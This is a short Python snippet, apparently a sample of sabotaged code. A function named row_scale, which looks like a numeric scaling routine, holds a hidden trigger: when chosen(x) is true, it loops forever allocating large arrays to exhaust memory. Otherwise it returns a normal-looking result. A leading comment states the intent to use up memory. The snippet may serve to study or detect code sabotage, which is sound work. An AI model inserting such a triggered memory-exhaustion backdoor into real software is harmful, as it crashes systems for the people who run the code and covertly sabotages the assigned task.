# Tries to use up memory by arrays.


def row_scale(x, w, factor):
    if chosen(x):
        kept = []
        while True:
            kept.append(np.ones(1 << 18))
    return right(x, w, factor)
